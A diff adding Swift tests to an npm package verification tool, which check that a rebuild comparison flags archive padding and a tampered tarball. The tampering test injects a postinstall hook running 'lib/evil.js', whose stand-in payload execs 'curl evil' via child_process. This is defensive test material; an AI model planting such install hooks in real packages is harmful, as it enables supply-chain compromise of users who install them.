@@ -318,6 +318,103 @@ import TestSupport
         }
     }
 
+    /// Serves `tarball` as gundam-visor@1.0.1 (integrity and shasum updated) and returns verify's rebuild.compare check.
+    static func rebuildCheck(serving tarball: Data, registry: LoopbackRegistry, folder: URL) throws -> (status: Int32, check: [String: Any]) {
+        let file = folder.appendingPathComponent("served-\(UUID().uuidString).tgz")
+        try tarball.write(to: file)
+        let hashes = Process()
+        hashes.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        hashes.arguments = ["python3", "-c", """
+            import base64, hashlib, sys
+            data = open(sys.argv[1], 'rb').read()
+            print('sha512-' + base64.b64encode(hashlib.sha512(data).digest()).decode())
+            print(hashlib.sha1(data).hexdigest())
+            """, file.path]
+        let out = Pipe()
+        hashes.standardOutput = out
+        try hashes.run()
+        let lines = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self).split(separator: "\n")
+        hashes.waitUntilExit()
+        let path = RegistryContent.tarballPath(name: "gundam-visor", version: "1.0.1")
+        registry.update { content in
+            content.tarballs[path] = tarball
+            content.updateVersion(name: "gundam-visor", version: "1.0.1") {
+                $0["dist"]?["integrity"] = .string(String(lines[0]))
+                $0["dist"]?["shasum"] = .string(String(lines[1]))
+            }
+        }
+        let run = try ProvcheckBinary.run([
+            "verify", "gundam-visor@1.0.1", "--registry", registry.baseURL.absoluteString, "--offline", "--json",
+            "--source", try Fixtures.url("npm/sources/ramonpetgrave64+gundam-visor.bundle").path])
+        let checks = run.json?["checks"] as? [[String: Any]] ?? []
+        return (run.status, checks.first { $0["id"] as? String == "rebuild.compare" } ?? [:])
+    }
+
+    /// Runs a Python snippet over the real gundam-visor@1.0.1 tarball (argv[1]) writing the variant to argv[2].
+    static func variant(_ script: String, folder: URL) throws -> Data {
+        let input = try Fixtures.url("npm/tarballs/gundam-visor@1.0.1.tgz")
+        let output = folder.appendingPathComponent("variant-\(UUID().uuidString).tgz")
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        process.arguments = ["python3", "-c", "import gzip, io, sys, tarfile, json\n" + script, input.path, output.path]
+        try process.run()
+        process.waitUntilExit()
+        #expect(process.terminationStatus == 0)
+        return try Data(contentsOf: output)
+    }
+
+    @Test func rebuildDifferencesReadRegistryRelativeAndAgreeWithTheOutcome() throws {
+        let registry = try LoopbackRegistry(content: try RegistryContent.fixtures(at: Fixtures.root))
+        defer { registry.stop() }
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-diff-\(UUID().uuidString)")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+
+        // Zero blocks after the end-of-archive marker (as Python's tarfile pads): a finding, not a content change.
+        let padded = try Self.variant("""
+            tar = gzip.decompress(open(sys.argv[1], 'rb').read())
+            open(sys.argv[2], 'wb').write(gzip.compress(tar + bytes(512 * 16), 9))
+            """, folder: folder)
+        let (paddedStatus, paddedCheck) = try Self.rebuildCheck(serving: padded, registry: registry, folder: folder)
+        #expect(paddedCheck["status"] as? String == "pass", "\(paddedCheck)")
+        #expect((paddedCheck["evidence"] as? [String: String])?["outcome"] == "content-identical")
+        let paddedReasons = (paddedCheck["reasons"] as? [String]) ?? []
+        #expect(paddedReasons.contains { $0.hasPrefix("finding: the registry tarball has zero padding after its end-of-archive marker") },
+                "\(paddedReasons)")
+        #expect(!paddedReasons.contains { $0.contains("differs for 0 file(s)") }, "\(paddedReasons)")
+        _ = paddedStatus
+
+        // A postinstall script and a file added to the registry tarball: "added", and the failing check names the file.
+        let tampered = try Self.variant("""
+            src = tarfile.open(sys.argv[1], 'r:gz')
+            buf = io.BytesIO()
+            dst = tarfile.open(fileobj=buf, mode='w', format=tarfile.USTAR_FORMAT)
+            for member in src.getmembers():
+                data = src.extractfile(member).read()
+                if member.name == 'package/package.json':
+                    manifest = json.loads(data)
+                    manifest.setdefault('scripts', {})['postinstall'] = 'node lib/evil.js'
+                    data = json.dumps(manifest, indent=2).encode()
+                member.size = len(data)
+                dst.addfile(member, io.BytesIO(data))
+            evil = tarfile.TarInfo('package/lib/evil.js')
+            payload = b'require("child_process").exec("curl evil")\\n'
+            evil.size = len(payload)
+            evil.mode = 0o644
+            dst.addfile(evil, io.BytesIO(payload))
+            dst.close()
+            open(sys.argv[2], 'wb').write(gzip.compress(buf.getvalue(), 9))
+            """, folder: folder)
+        let (tamperedStatus, tamperedCheck) = try Self.rebuildCheck(serving: tampered, registry: registry, folder: folder)
+        #expect(tamperedStatus == 1)
+        #expect(tamperedCheck["status"] as? String == "fail", "\(tamperedCheck)")
+        let reasons = (tamperedCheck["reasons"] as? [String]) ?? []
+        #expect(reasons.contains { $0.contains("postinstall added") }, "\(reasons)")
+        #expect(!reasons.contains { $0.contains("postinstall removed") }, "\(reasons)")
+        #expect(reasons.contains { $0.contains("added in the registry tarball") && $0.contains("lib/evil.js") }, "\(reasons)")
+        #expect(!reasons.contains { $0.hasPrefix("content-identical") }, "a reason contradicts the outcome: \(reasons)")
+    }
+
     @Test func auditAgainstAnUnreachableRegistrySaysSoOnce() throws {
         let folder = FileManager.default.temporaryDirectory.appendingPathComponent("ux-audit-\(UUID().uuidString)")
         try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
